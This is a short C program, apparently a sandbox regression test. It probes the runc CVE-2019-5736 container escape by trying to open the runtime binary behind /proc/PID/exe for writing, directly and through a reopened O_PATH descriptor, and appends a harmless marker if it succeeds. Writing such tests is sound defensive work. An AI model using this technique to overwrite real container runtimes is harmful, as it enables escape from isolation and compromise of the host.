/* Attack: overwrite the runtime's binary through /proc (runc
 * CVE-2019-5736).  For each pid given (default: 1, the sandbox's init,
 * and our parent), open /proc/PID/exe for writing, directly and through
 * an O_PATH fd reopened via /proc/self/fd; when one opens, append a
 * marker (the test runs a scratch copy of the shim and checks it).
 * Prints one line per try; exits 1 when any open for writing worked.
 *
 *   exe_write [PID...] */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int try_write(const char *what, const char *path)
{
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0) {
		printf("%s: refused (%s)\n", what, strerror(errno));
		return 0;
	}
	(void)!write(fd, "nscell-exe-overwritten\n", 23);
	close(fd);
	printf("%s: OPENED FOR WRITING\n", what);
	return 1;
}

static int attack(int pid)
{
	char path[64], what[96], via[64];
	int bad = 0;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	snprintf(what, sizeof what, "open %s for writing", path);
	bad |= try_write(what, path);
	int o = open(path, O_PATH | O_CLOEXEC);
	if (o < 0) {
		printf("O_PATH %s: refused (%s)\n", path, strerror(errno));
		return bad;
	}
	snprintf(via, sizeof via, "/proc/self/fd/%d", o);
	snprintf(what, sizeof what, "reopen %s (O_PATH) for writing", path);
	bad |= try_write(what, via);
	close(o);
	return bad;
}

int main(int argc, char **argv)
{
	int bad = 0;
	if (argc > 1) {
		for (int i = 1; i < argc; i++)
			bad |= attack(atoi(argv[i]));
	} else {
		bad |= attack(1);
		if (getppid() != 1)
			bad |= attack(getppid());
	}
	return bad;
}
